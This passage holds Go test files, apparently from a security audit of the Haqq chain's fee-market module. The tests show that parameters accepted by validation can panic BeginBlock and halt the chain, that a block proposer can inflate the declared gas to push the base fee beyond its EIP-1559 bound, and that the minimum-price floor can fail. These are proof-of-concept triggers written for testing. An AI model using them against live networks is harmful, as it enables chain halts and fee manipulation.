// Two vetoed proposals, each with 2^254.x units of the voucher: each amount fits an sdk.Dec, the
// sum (which x/bank holds without trouble: 1.5*2^255 < 2^256) does not.
func TestZZVetoedDepositsAccumulateChainSurvives(t *testing.T) {
	amt := zzPow2(254).Add(zzPow2(253)) // 1.5 * 2^254
	zzVetoedProposals(t, false,
		sdk.NewCoins(sdk.NewCoin(zzVoucher, amt)),
		sdk.NewCoins(sdk.NewCoin(zzVoucher, amt)),
	)
}
