package keeper_test

import (
	"math/big"

	abci "github.com/cometbft/cometbft/abci/types"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	govtypes "github.com/cosmos/cosmos-sdk/x/gov/types"

	"github.com/haqq-network/haqq/x/feemarket/types"
)

// Property (C17): for EVERY parameter set that the module's own validation
// accepts, the base fee of the next block is the EIP-1559 function of the
// previous base fee and the previous block's gas figure.
//
// An ElasticityMultiplier of 0 is accepted by Params.Validate() (and therefore
// by MsgUpdateParams.ValidateBasic() and by genesis validation), although
// CalculateBaseFee divides the block gas limit by it ("CONTRACT:
// ElasticityMultiplier cannot be 0 as it's checked in the params validation").
// Once such params are stored, every BeginBlock panics with a division by zero.
func (suite *KeeperTestSuite) TestZZHuntElasticityZeroAcceptedByValidationHaltsBeginBlock() {
	suite.SetupTest()

	params := suite.app.FeeMarketKeeper.GetParams(suite.ctx)
	params.ElasticityMultiplier = 0

	msg := &types.MsgUpdateParams{
		Authority: authtypes.NewModuleAddress(govtypes.ModuleName).String(),
		Params:    params,
	}

	// the same validation is used by genesis (GenesisState.Validate)
	genesisErr := types.NewGenesisState(params, 0).Validate()

	// what a governance proposal goes through: ValidateBasic at submission,
	// the msg server at execution.
	if err := msg.ValidateBasic(); err != nil {
		suite.Require().Error(genesisErr, "gov path rejects elasticity 0 but genesis accepts it")
		return // rejected: nothing to check, the property holds
	}
	if _, err := suite.app.FeeMarketKeeper.UpdateParams(suite.ctx, msg); err != nil {
		return // rejected: nothing to check, the property holds
	}

	// next block: 40M gas limit, the previous block used 30M gas
	parentBaseFee := suite.app.FeeMarketKeeper.GetParams(suite.ctx).BaseFee.BigInt()
	ctx := suite.ctx.
		WithBlockHeight(suite.ctx.BlockHeight() + 1).
		WithConsensusParams(&tmproto.ConsensusParams{Block: &tmproto.BlockParams{MaxGas: 40_000_000, MaxBytes: 22020096}})
	suite.app.FeeMarketKeeper.SetBlockGasWanted(ctx, 30_000_000)

	suite.Require().NotPanics(func() {
		suite.app.FeeMarketKeeper.BeginBlock(ctx, abci.RequestBeginBlock{})
	}, "params accepted by Validate()/ValidateBasic()/UpdateParams (genesis validation error: %v) must yield a base fee, not a BeginBlock panic (= chain halt)", genesisErr)

	// whatever the chosen semantics for the degenerate target, the base fee must
	// not have gone DOWN after a block that used 30M gas, and must be positive.
	newBaseFee := suite.app.FeeMarketKeeper.GetParams(ctx).BaseFee.BigInt()
	suite.Require().True(newBaseFee.Cmp(parentBaseFee) >= 0, "base fee %s -> %s", parentBaseFee, newBaseFee)
}

// Same root cause, other corner: the gas target T = MaxGas / ElasticityMultiplier
// rounds to 0 when the (valid) elasticity multiplier is larger than the (valid)
// block gas limit; the g > T branch then divides by T.
func (suite *KeeperTestSuite) TestZZHuntZeroGasTargetHaltsBeginBlock() {
	suite.SetupTest()

	params := suite.app.FeeMarketKeeper.GetParams(suite.ctx)
	params.ElasticityMultiplier = 4_000_000_000 // valid uint32
	suite.Require().NoError(params.Validate())
	suite.Require().NoError(suite.app.FeeMarketKeeper.SetParams(suite.ctx, params))

	cp := &tmproto.ConsensusParams{Block: &tmproto.BlockParams{MaxGas: 3_000_000_000, MaxBytes: 22020096}}
	ctx := suite.ctx.WithBlockHeight(suite.ctx.BlockHeight() + 1).WithConsensusParams(cp)
	suite.app.FeeMarketKeeper.SetBlockGasWanted(ctx, 21_000)

	var fee *big.Int
	suite.Require().NotPanics(func() {
		fee = suite.app.FeeMarketKeeper.CalculateBaseFee(ctx)
	}, "valid params + valid consensus params must yield a base fee")
	suite.Require().NotNil(fee)
}
