package keeper_test

import (
	abci "github.com/cometbft/cometbft/abci/types"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
)

// The base fee is lowered after blocks below the target "but never below the configured minimum gas price".
// MinGasPrice is a decimal and parameter validation accepts any non-negative decimal.
// Run: go test ./x/feemarket/keeper/... -run TestKeeperTestSuite -testify.m TestZZHuntBaseFeeNeverBelowMinGasPrice
func (suite *KeeperTestSuite) TestZZHuntBaseFeeNeverBelowMinGasPrice() {
	testCases := []struct {
		name        string
		baseFee     int64
		minGasPrice string
	}{
		{"Haqq's minimum plus half a unit", 25_000_000_000, "20000000000.5"},
		{"just under the next integer", 100, "99.999999999999999999"},
	}

	for _, tc := range testCases {
		suite.Run(tc.name, func() {
			suite.SetupTest()

			minGasPrice := sdk.MustNewDecFromStr(tc.minGasPrice)

			params := suite.app.FeeMarketKeeper.GetParams(suite.ctx)
			params.NoBaseFee = false
			params.EnableHeight = 0
			params.BaseFee = sdk.NewInt(tc.baseFee)
			params.MinGasPrice = minGasPrice
			suite.Require().NoError(params.Validate(), "the configuration passes parameter validation")
			suite.Require().NoError(suite.app.FeeMarketKeeper.SetParams(suite.ctx, params))

			consParams := tmproto.ConsensusParams{Block: &tmproto.BlockParams{MaxGas: 40_000_000, MaxBytes: 200000}}
			ctx := suite.ctx.WithConsensusParams(&consParams)

			// a run of empty blocks: the gas figure of every parent block is 0
			suite.app.FeeMarketKeeper.SetBlockGasWanted(ctx, 0)
			for i := int64(1); i <= 60; i++ {
				ctx = ctx.WithBlockHeight(suite.ctx.BlockHeight() + i)
				suite.app.FeeMarketKeeper.BeginBlock(ctx, abci.RequestBeginBlock{})

				baseFee := suite.app.FeeMarketKeeper.GetParams(ctx).BaseFee
				suite.Require().Truef(
					sdk.NewDecFromInt(baseFee).GTE(minGasPrice),
					"after %d empty blocks the base fee is %s, below the configured minimum gas price %s",
					i, baseFee, minGasPrice,
				)
			}
		})
	}
}
