package keeper_test

import (
	"math/big"

	abci "github.com/cometbft/cometbft/abci/types"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	govtypes "github.com/cosmos/cosmos-sdk/x/gov/types"

	"github.com/haqq-network/haqq/x/feemarket/types"
)

// zzNextBaseFee returns CalculateBaseFee for the given parent gas figure g with
// everything else (parent base fee, params, block gas limit) held fixed.
func (suite *KeeperTestSuite) zzNextBaseFee(ctx sdk.Context, g uint64) *big.Int {
	cacheCtx, _ := ctx.CacheContext()
	suite.app.FeeMarketKeeper.SetBlockGasWanted(cacheCtx, g)
	return suite.app.FeeMarketKeeper.CalculateBaseFee(cacheCtx)
}

// Property (C17): with the parent base fee, the params and the block gas limit
// held fixed, the next base fee is monotone (non-decreasing) in the parent gas
// figure g: a busier parent block never yields a LOWER base fee than an emptier
// one. It is also never lowered below the configured minimum gas price.
//
// The min-gas-price floor is only applied in the g < T branch of
// CalculateBaseFee. As soon as MinGasPrice > parent base fee (governance raises
// MinGasPrice, or sets BaseFee, through MsgUpdateParams; or genesis: the Haqq
// defaults are BaseFee = 1e9 and MinGasPrice = 20e9), an emptier block produces
// a HIGHER base fee than a full block, and the base fee of full blocks stays
// below the configured minimum.
func (suite *KeeperTestSuite) TestZZHuntBaseFeeMonotoneInGasAndAboveMinGasPrice() {
	suite.SetupTest()

	const maxGas = 40_000_000
	minGasPrice := sdk.NewDec(50_000_000_000) // 50 gwei, raised by governance
	parentBaseFee := big.NewInt(20_000_000_000)

	params := suite.app.FeeMarketKeeper.GetParams(suite.ctx)
	params.BaseFee = sdk.NewIntFromBigInt(parentBaseFee)
	params.MinGasPrice = minGasPrice
	msg := &types.MsgUpdateParams{
		Authority: authtypes.NewModuleAddress(govtypes.ModuleName).String(),
		Params:    params,
	}
	suite.Require().NoError(msg.ValidateBasic())
	_, err := suite.app.FeeMarketKeeper.UpdateParams(suite.ctx, msg)
	suite.Require().NoError(err)

	ctx := suite.ctx.
		WithBlockHeight(suite.ctx.BlockHeight() + 1).
		WithConsensusParams(&tmproto.ConsensusParams{Block: &tmproto.BlockParams{MaxGas: maxGas, MaxBytes: 22020096}})

	target := uint64(maxGas) / uint64(params.ElasticityMultiplier)

	// sweep g over [0, maxGas] (including T-1, T, T+1)
	gs := []uint64{0, 1, target / 2, target - 1, target, target + 1, target + target/2, maxGas - 1, maxGas}
	var (
		prevG   uint64
		prevFee *big.Int
	)
	for _, g := range gs {
		fee := suite.zzNextBaseFee(ctx, g)
		suite.Require().NotNil(fee)
		suite.T().Logf("g=%-9d (T=%d) parentBaseFee=%s minGasPrice=%s -> baseFee=%s", g, target, parentBaseFee, minGasPrice.TruncateInt(), fee)
		if prevFee != nil {
			suite.Require().True(fee.Cmp(prevFee) >= 0,
				"base fee must be monotone in the parent gas figure: g=%d -> %s but g=%d -> %s (T=%d, parent base fee %s, min gas price %s)",
				prevG, prevFee, g, fee, target, parentBaseFee, minGasPrice.TruncateInt())
		}
		prevG, prevFee = g, fee
	}
}

// The same through the real EndBlock/BeginBlock, as two alternative histories
// from one state: governance has raised MinGasPrice above the current base fee;
// the next block is either completely FULL or completely EMPTY. The block after
// the full one must not get a lower base fee than the block after the empty one.
func (suite *KeeperTestSuite) TestZZHuntFullBlockYieldsLowerBaseFeeThanEmptyBlock() {
	suite.SetupTest()

	const maxGas = 40_000_000
	minGasPrice := sdk.NewDec(50_000_000_000)

	params := suite.app.FeeMarketKeeper.GetParams(suite.ctx)
	params.BaseFee = sdk.NewInt(20_000_000_000)
	params.MinGasPrice = minGasPrice
	suite.Require().NoError(params.Validate())
	suite.Require().NoError(suite.app.FeeMarketKeeper.SetParams(suite.ctx, params))

	cp := &tmproto.ConsensusParams{Block: &tmproto.BlockParams{MaxGas: maxGas, MaxBytes: 22020096}}

	run := func(gasWanted, gasUsed uint64) sdk.Int {
		ctx, _ := suite.ctx.CacheContext()
		ctx = ctx.WithConsensusParams(cp)

		// block h
		meter := sdk.NewGasMeter(maxGas)
		meter.ConsumeGas(gasUsed, "block gas")
		ctx = ctx.WithBlockGasMeter(meter)
		suite.app.FeeMarketKeeper.SetTransientBlockGasWanted(ctx, gasWanted)
		suite.app.FeeMarketKeeper.EndBlock(ctx, abci.RequestEndBlock{})

		// block h+1
		ctx = ctx.WithBlockHeight(ctx.BlockHeight() + 1).WithBlockGasMeter(sdk.NewGasMeter(maxGas))
		suite.app.FeeMarketKeeper.BeginBlock(ctx, abci.RequestBeginBlock{})
		return suite.app.FeeMarketKeeper.GetParams(ctx).BaseFee
	}

	afterFull := run(maxGas, maxGas)
	afterEmpty := run(0, 0)
	suite.T().Logf("parent base fee 20000000000, min gas price %s: base fee after FULL block = %s, after EMPTY block = %s",
		minGasPrice.TruncateInt(), afterFull, afterEmpty)

	suite.Require().True(afterFull.GTE(afterEmpty),
		"a full parent block must not give a lower base fee than an empty one: full -> %s, empty -> %s", afterFull, afterEmpty)
}
