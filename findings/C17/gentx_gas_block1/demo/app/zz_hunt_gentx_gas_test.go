package app

import (
	"encoding/json"
	"math/big"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	sdkmath "cosmossdk.io/math"
	dbm "github.com/cometbft/cometbft-db"
	abci "github.com/cometbft/cometbft/abci/types"
	"github.com/cometbft/cometbft/libs/log"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	"github.com/cosmos/cosmos-sdk/baseapp"
	clienttx "github.com/cosmos/cosmos-sdk/client/tx"
	"github.com/cosmos/cosmos-sdk/crypto/keys/ed25519"
	simtestutil "github.com/cosmos/cosmos-sdk/testutil/sims"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	authsigning "github.com/cosmos/cosmos-sdk/x/auth/signing"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	genutiltypes "github.com/cosmos/cosmos-sdk/x/genutil/types"
	stakingtypes "github.com/cosmos/cosmos-sdk/x/staking/types"

	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/utils"
	feemarkettypes "github.com/haqq-network/haqq/x/feemarket/types"
)

// eip1559 is the function the property names: the next base fee from the parent base fee and the parent block's
// gas figure g against the target T = limit / elasticity.
func zzEIP1559(base *big.Int, g, limit uint64, elasticity, denominator uint32, minGasPrice *big.Int) *big.Int {
	target := limit / uint64(elasticity)
	t, d := new(big.Int).SetUint64(target), new(big.Int).SetUint64(uint64(denominator))
	switch {
	case g == target:
		return new(big.Int).Set(base)
	case g > target:
		delta := new(big.Int).Mul(base, new(big.Int).SetUint64(g-target))
		delta.Div(delta, t).Div(delta, d)
		if delta.Sign() == 0 {
			delta.SetInt64(1)
		}
		return delta.Add(delta, base)
	default:
		delta := new(big.Int).Mul(base, new(big.Int).SetUint64(target-g))
		delta.Div(delta, t).Div(delta, d)
		next := new(big.Int).Sub(base, delta)
		if next.Cmp(minGasPrice) < 0 {
			return new(big.Int).Set(minGasPrice)
		}
		return next
	}
}

// A chain is started from a genesis file whose validators are created by gentxs (the way `haqqd gentx` /
// `collect-gentxs` builds every real genesis). Block 1 contains NO transaction. The gas figure the fee market
// records for block 1 must therefore be 0, and the base fee of block 2 must be the EIP-1559 function of block 1's
// base fee and g = 0.
func TestZZHuntGentxGasIsNotBlockOneGas(t *testing.T) {
	const (
		blockMaxGas = int64(10_000_000) // as set by init.sh
		gentxGas    = uint64(200_000)   // default --gas of `haqqd gentx`
	)

	testCases := []struct {
		name        string
		validators  int
		baseFee     uint64
		minGasPrice sdkmath.LegacyDec
	}{
		// 3 * 200000 * 0.5 = 300000 is booked on the (empty) block 1
		{"three gentxs, no min gas price", 3, 1_000_000_000, sdkmath.LegacyZeroDec()},
		// 60 * 200000 * 0.5 = 6M > T = 5M: the base fee RISES after an empty block
		{"sixty gentxs, Haqq's min gas price", 60, 20_000_000_000, sdkmath.LegacyNewDec(20_000_000_000)},
	}

	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			chainID := utils.MainNetChainID + "-1"
			encCfg := encoding.MakeConfig(ModuleBasics)
			happ := NewHaqq(
				log.NewNopLogger(), dbm.NewMemDB(), nil, true, map[int64]bool{},
				DefaultNodeHome, 5, encCfg,
				simtestutil.NewAppOptionsWithFlagHome(DefaultNodeHome),
				baseapp.SetChainID(chainID),
			)

			genesisState := NewDefaultGenesisState()

			fmParams := feemarkettypes.DefaultParams()
			fmParams.BaseFee = sdkmath.NewIntFromUint64(tc.baseFee)
			fmParams.MinGasPrice = tc.minGasPrice
			fmParams.MinGasMultiplier = sdkmath.LegacyNewDecWithPrec(5, 1)
			fmGenesis := feemarkettypes.NewGenesisState(fmParams, 0)
			require.NoError(t, fmGenesis.Validate())
			genesisState[feemarkettypes.ModuleName] = happ.AppCodec().MustMarshalJSON(fmGenesis)

			stakingGenesis := stakingtypes.DefaultGenesisState()
			stakingGenesis.Params.BondDenom = utils.BaseDenom
			genesisState[stakingtypes.ModuleName] = happ.AppCodec().MustMarshalJSON(stakingGenesis)

			var (
				accounts  []authtypes.GenesisAccount
				balances  []banktypes.Balance
				supply    = sdk.NewCoins()
				gentxs    []json.RawMessage
				selfBond  = sdk.NewCoin(utils.BaseDenom, sdk.TokensFromConsensusPower(100, sdk.DefaultPowerReduction))
				funds     = sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, sdk.TokensFromConsensusPower(1000, sdk.DefaultPowerReduction)))
				gentxFee  = sdk.NewCoins(sdk.NewCoin(utils.BaseDenom, tc.minGasPrice.MulInt64(int64(gentxGas)).Ceil().TruncateInt()))
				firstCons sdk.ConsAddress
			)

			for i := 0; i < tc.validators; i++ {
				priv, err := ethsecp256k1.GenerateKey()
				require.NoError(t, err)
				addr := sdk.AccAddress(priv.PubKey().Address())
				accounts = append(accounts, authtypes.NewBaseAccount(addr, nil, uint64(i), 0))
				balances = append(balances, banktypes.Balance{Address: addr.String(), Coins: funds})
				supply = supply.Add(funds...)

				consKey := ed25519.GenPrivKey().PubKey()
				if i == 0 {
					firstCons = sdk.ConsAddress(consKey.Address())
				}
				msg, err := stakingtypes.NewMsgCreateValidator(
					sdk.ValAddress(addr), consKey, selfBond,
					stakingtypes.NewDescription("zz", "", "", "", ""),
					stakingtypes.NewCommissionRates(sdkmath.LegacyNewDecWithPrec(5, 2), sdkmath.LegacyNewDecWithPrec(20, 2), sdkmath.LegacyNewDecWithPrec(1, 2)),
					sdkmath.OneInt(),
				)
				require.NoError(t, err)

				txBuilder := encCfg.TxConfig.NewTxBuilder()
				require.NoError(t, txBuilder.SetMsgs(msg))
				txBuilder.SetGasLimit(gentxGas)
				if !gentxFee.IsZero() {
					txBuilder.SetFeeAmount(gentxFee)
				}
				signMode := signing.SignMode_SIGN_MODE_DIRECT
				require.NoError(t, txBuilder.SetSignatures(signing.SignatureV2{
					PubKey: priv.PubKey(),
					Data:   &signing.SingleSignatureData{SignMode: signMode},
				}))
				// at genesis the signatures are verified with account number 0
				sig, err := clienttx.SignWithPrivKey(
					signMode, authsigning.SignerData{ChainID: chainID, AccountNumber: 0, Sequence: 0},
					txBuilder, priv, encCfg.TxConfig, 0,
				)
				require.NoError(t, err)
				require.NoError(t, txBuilder.SetSignatures(sig))

				bz, err := encCfg.TxConfig.TxJSONEncoder()(txBuilder.GetTx())
				require.NoError(t, err)
				gentxs = append(gentxs, bz)
			}

			genesisState[authtypes.ModuleName] = happ.AppCodec().MustMarshalJSON(authtypes.NewGenesisState(authtypes.DefaultParams(), accounts))
			genesisState[banktypes.ModuleName] = happ.AppCodec().MustMarshalJSON(banktypes.NewGenesisState(
				banktypes.DefaultGenesisState().Params, balances, supply, []banktypes.Metadata{}, []banktypes.SendEnabled{},
			))
			genesisState[genutiltypes.ModuleName] = happ.AppCodec().MustMarshalJSON(genutiltypes.NewGenesisState(gentxs))

			stateBytes, err := json.MarshalIndent(genesisState, "", " ")
			require.NoError(t, err)

			consParams := *DefaultConsensusParams
			consParams.Block = &tmproto.BlockParams{MaxBytes: 200000, MaxGas: blockMaxGas}

			res := happ.InitChain(abci.RequestInitChain{
				ChainId:         chainID,
				Validators:      []abci.ValidatorUpdate{},
				ConsensusParams: &consParams,
				AppStateBytes:   stateBytes,
			})
			require.Len(t, res.Validators, tc.validators, "the gentxs created the validators")

			// ---- block 1: no transactions at all
			header := tmproto.Header{ChainID: chainID, Height: 1, Time: time.Now().UTC(), ProposerAddress: firstCons}
			happ.BeginBlock(abci.RequestBeginBlock{Header: header})
			ctx := happ.BaseApp.NewContext(false, header)
			baseFee1 := happ.FeeMarketKeeper.GetParams(ctx).BaseFee.BigInt()
			happ.EndBlock(abci.RequestEndBlock{Height: 1})

			ctx = happ.BaseApp.NewContext(false, header)
			blockGas1 := happ.FeeMarketKeeper.GetBlockGasWanted(ctx)
			happ.Commit()

			// ---- block 2
			header.Height = 2
			header.Time = header.Time.Add(5 * time.Second)
			happ.BeginBlock(abci.RequestBeginBlock{Header: header})
			ctx = happ.BaseApp.NewContext(false, header)
			baseFee2 := happ.FeeMarketKeeper.GetParams(ctx).BaseFee.BigInt()

			want := zzEIP1559(baseFee1, 0, uint64(blockMaxGas), fmParams.ElasticityMultiplier, fmParams.BaseFeeChangeDenominator, tc.minGasPrice.TruncateInt().BigInt())
			t.Logf("gentxs=%d  base fee of block 1 = %s  gas figure recorded for the empty block 1 = %d  base fee of block 2 = %s (EIP-1559 of g=0: %s)",
				tc.validators, baseFee1, blockGas1, baseFee2, want)

			assert.Equal(t, uint64(0), blockGas1,
				"block 1 contained no transaction: its gas figure max(gasWanted*minGasMultiplier, gasUsed) must be 0")
			assert.Equal(t, want.String(), baseFee2.String(),
				"base fee of block 2 must be the EIP-1559 function of block 1's base fee and block 1's gas figure (0)")
			assert.LessOrEqual(t, baseFee2.Cmp(baseFee1), 0, "the base fee must not rise after an empty block")
		})
	}
}
