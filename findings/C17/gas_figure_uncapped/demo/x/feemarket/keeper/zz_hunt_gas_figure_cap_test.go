package keeper_test

import (
	"math/big"

	sdkmath "cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	banktypes "github.com/cosmos/cosmos-sdk/x/bank/types"
	consensuskeeper "github.com/cosmos/cosmos-sdk/x/consensus/keeper"
	consensustypes "github.com/cosmos/cosmos-sdk/x/consensus/types"
	govtypes "github.com/cosmos/cosmos-sdk/x/gov/types"

	"github.com/haqq-network/haqq/app"
	"github.com/haqq-network/haqq/crypto/ethsecp256k1"
	"github.com/haqq-network/haqq/encoding"
	"github.com/haqq-network/haqq/testutil"
	utiltx "github.com/haqq-network/haqq/testutil/tx"
)

// zzCapNextBlock runs the real ABCI EndBlock / Commit / BeginBlock sequence
// (the suite's Commit helper calls the EndBlocker with a context that has no
// block gas meter, which makes the fee market's EndBlock return early).
func zzCapNextBlock() {
	header := s.ctx.BlockHeader()
	s.app.EndBlock(abci.RequestEndBlock{Height: header.Height})
	s.app.Commit()

	header.Height++
	header.AppHash = s.app.LastCommitID().Hash
	s.app.BeginBlock(abci.RequestBeginBlock{Header: header})
	s.ctx = s.app.BaseApp.NewContext(false, header).WithMinGasPrices(s.ctx.MinGasPrices())
}

// Property C17: the base fee of a block is the EIP-1559 function of the parent
// base fee and the parent block's gas figure g against the target
// T = block gas limit / elasticity.  In EIP-1559 g is a quantity of the parent
// block, 0 <= g <= block gas limit, hence one block can raise the base fee by
// at most base x (elasticity-1) / denominator (12.5% with the defaults) - the
// bound rpc/backend SuggestGasTipCap documents and relies on.
//
// The figure the fee market stores is max(sum of declared gas x
// MinGasMultiplier, gas used).  The block gas meter only limits the gas *used*;
// nothing limits the *declared* sum to the block gas limit: ProcessProposal is
// the no-op handler (app.go installs a NoOpMempool) and CometBFT does not check
// gas.  A proposer can therefore fill a block with cheap transactions that
// each declare (and pay for) a lot of gas and use almost none.
func (suite *KeeperTestSuite) TestZZHuntGasFigureAboveBlockGasLimit() {
	const (
		maxGas      = int64(40_000_000)
		txGas       = uint64(20_000_000) // each tx on its own is within the block gas limit
		nTxs        = 20
		txGasPrice  = int64(2_000_000_000)
		baseFeeInit = int64(1_000_000_000)
	)
	_, _ = setupTestWithContext("1", sdk.ZeroDec(), sdkmath.NewInt(baseFeeInit))

	// block.max_gas = 40M through x/consensus
	cp := s.app.BaseApp.GetConsensusParams(s.ctx)
	update := &consensustypes.MsgUpdateParams{
		Authority: authtypes.NewModuleAddress(govtypes.ModuleName).String(),
		Block:     &tmproto.BlockParams{MaxBytes: cp.Block.MaxBytes, MaxGas: maxGas},
		Evidence:  cp.Evidence,
		Validator: cp.Validator,
	}
	_, err := consensuskeeper.NewMsgServerImpl(s.app.ConsensusParamsKeeper).UpdateParams(s.ctx, update)
	suite.Require().NoError(err)

	// nTxs funded senders
	privs := make([]*ethsecp256k1.PrivKey, nTxs)
	for i := range privs {
		addr, priv := utiltx.NewAccAddressAndKey()
		privs[i] = priv
		suite.Require().NoError(testutil.FundAccount(s.ctx, s.app.BankKeeper, addr,
			sdk.NewCoins(sdk.NewCoin(s.denom, sdkmath.NewIntWithDecimal(1, 18)))))
	}
	// NOTE: the suite's validator set-up breaks a staking invariant that the crisis
	// module checks every 5th block, so the test stays below height 5
	zzCapNextBlock()

	params := s.app.FeeMarketKeeper.GetParams(s.ctx)
	feeBefore := params.BaseFee.BigInt()
	suite.Require().Equal(uint64(maxGas), s.app.BaseApp.GetMaximumBlockGas(s.ctx))

	// the proposer's block: nTxs bank sends of 1 aISLM, each declaring 20M gas and paying for it
	txCfg := encoding.MakeConfig(app.ModuleBasics).TxConfig
	gasPrice := sdkmath.NewInt(txGasPrice)
	var blockTxs [][]byte
	for _, priv := range privs {
		addr := sdk.AccAddress(priv.PubKey().Address().Bytes())
		send := &banktypes.MsgSend{
			FromAddress: addr.String(), ToAddress: addr.String(),
			Amount: sdk.NewCoins(sdk.NewCoin(s.denom, sdkmath.NewInt(1))),
		}
		tx, err := utiltx.PrepareCosmosTx(s.ctx, s.app, utiltx.CosmosTxArgs{
			TxCfg: txCfg, Priv: priv, ChainID: s.ctx.ChainID(), Gas: txGas, GasPrice: &gasPrice, Msgs: []sdk.Msg{send},
		}, signing.SignMode_SIGN_MODE_DIRECT)
		suite.Require().NoError(err)
		bz, err := txCfg.TxEncoder()(tx)
		suite.Require().NoError(err)
		blockTxs = append(blockTxs, bz)
	}

	// an honest proposer (default PrepareProposal) would have cut the list at the block gas limit
	prep := s.app.PrepareProposal(abci.RequestPrepareProposal{
		Txs: blockTxs, MaxTxBytes: cp.Block.MaxBytes, Height: s.ctx.BlockHeader().Height, Time: s.ctx.BlockHeader().Time,
	})
	suite.T().Logf("default PrepareProposal keeps %d of %d transactions", len(prep.Txs), len(blockTxs))

	// every other validator accepts the proposal
	header := s.ctx.BlockHeader()
	pp := s.app.ProcessProposal(abci.RequestProcessProposal{
		Txs: blockTxs, Height: header.Height, Time: header.Time, ProposerAddress: header.ProposerAddress,
	})
	suite.Require().Equal(abci.ResponseProcessProposal_ACCEPT, pp.Status,
		"a block declaring %d gas under a %d block gas limit is accepted", uint64(nTxs)*txGas, maxGas)

	var used int64
	for _, bz := range blockTxs {
		res := s.app.BaseApp.DeliverTx(abci.RequestDeliverTx{Tx: bz})
		suite.Require().True(res.IsOK(), res.GetLog())
		used += res.GasUsed
	}
	suite.Require().Less(used, maxGas, "the block's gas use is within the block gas limit")

	zzCapNextBlock()

	figure := s.app.FeeMarketKeeper.GetBlockGasWanted(s.ctx)
	feeAfter := s.app.FeeMarketKeeper.GetBaseFee(s.ctx)

	// largest rise EIP-1559 allows for one block: the block was full (g = block gas limit)
	maxRise := new(big.Int).Mul(feeBefore, big.NewInt(int64(params.ElasticityMultiplier)-1))
	maxRise.Div(maxRise, big.NewInt(int64(params.BaseFeeChangeDenominator)))
	bound := new(big.Int).Add(feeBefore, maxRise)

	suite.T().Logf("gas used %d, declared %d, gas figure %d, block gas limit %d; base fee %s -> %s (EIP-1559 one-block maximum %s)",
		used, uint64(nTxs)*txGas, figure, maxGas, feeBefore, feeAfter, bound)

	suite.Assert().True(feeAfter.Cmp(bound) <= 0,
		"base fee rose from %s to %s in one block, EIP-1559 maximum for a full block is %s", feeBefore, feeAfter, bound)
	suite.Assert().LessOrEqual(figure, uint64(maxGas),
		"the gas figure of a block cannot be above the block gas limit")
}
