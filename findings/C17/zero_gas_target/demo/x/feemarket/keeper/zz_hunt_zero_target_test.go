package keeper_test

import (
	"fmt"
	"math/big"

	sdkmath "cosmossdk.io/math"
	abci "github.com/cometbft/cometbft/abci/types"
	tmproto "github.com/cometbft/cometbft/proto/tendermint/types"
	sdk "github.com/cosmos/cosmos-sdk/types"
	"github.com/cosmos/cosmos-sdk/types/tx/signing"
	authtypes "github.com/cosmos/cosmos-sdk/x/auth/types"
	consensuskeeper "github.com/cosmos/cosmos-sdk/x/consensus/keeper"
	consensustypes "github.com/cosmos/cosmos-sdk/x/consensus/types"
	govtypes "github.com/cosmos/cosmos-sdk/x/gov/types"

	"github.com/haqq-network/haqq/testutil"
)

// zzNextBlock runs the real ABCI EndBlock / Commit / BeginBlock sequence (the
// suite's Commit helper calls the EndBlocker with a context that has no block
// gas meter, which makes the fee market's EndBlock return early).
func zzNextBlock() (panicked interface{}) {
	header := s.ctx.BlockHeader()
	s.app.EndBlock(abci.RequestEndBlock{Height: header.Height})
	s.app.Commit()

	header.Height++
	header.AppHash = s.app.LastCommitID().Hash

	defer func() {
		if r := recover(); r != nil {
			panicked = r
		}
	}()
	s.app.BeginBlock(abci.RequestBeginBlock{Header: header})
	s.ctx = s.app.BaseApp.NewContext(false, header).WithMinGasPrices(s.ctx.MinGasPrices())
	return nil
}

// Property C17: for every block gas limit, *including unlimited*, the base fee
// of a block is the EIP-1559 function of the parent base fee and the parent
// gas figure.  Block.MaxGas = 0 is a valid consensus parameter (CometBFT only
// rejects values < -1, x/consensus accepts it) and baseapp treats it exactly as
// -1: the block gas meter is infinite.  A chain configured like that must keep
// producing blocks and keep a well defined base fee after a block with a
// transaction in it.
func (suite *KeeperTestSuite) TestZZHuntMaxGasZeroBaseFee() {
	baseFee := sdkmath.NewInt(1_000_000_000)
	privKey, msg := setupTestWithContext("1", sdk.ZeroDec(), baseFee)

	// governance: x/consensus MsgUpdateParams with block.max_gas = 0
	cp := s.app.BaseApp.GetConsensusParams(s.ctx)
	update := &consensustypes.MsgUpdateParams{
		Authority: authtypes.NewModuleAddress(govtypes.ModuleName).String(),
		Block:     &tmproto.BlockParams{MaxBytes: cp.Block.MaxBytes, MaxGas: 0},
		Evidence:  cp.Evidence,
		Validator: cp.Validator,
	}
	suite.Require().NoError(update.ValidateBasic())
	_, err := consensuskeeper.NewMsgServerImpl(s.app.ConsensusParamsKeeper).UpdateParams(s.ctx, update)
	suite.Require().NoError(err, "max_gas = 0 is accepted by x/consensus")

	// an empty block under the new parameters is fine
	suite.Require().Nil(zzNextBlock())
	suite.Require().Equal(int64(0), s.app.BaseApp.GetConsensusParams(s.ctx).Block.MaxGas)
	feeBefore := s.app.FeeMarketKeeper.GetBaseFee(s.ctx)
	suite.Require().NotNil(feeBefore)

	// one ordinary, fully paid bank send
	gasPrice := sdkmath.NewInt(2_000_000_000)
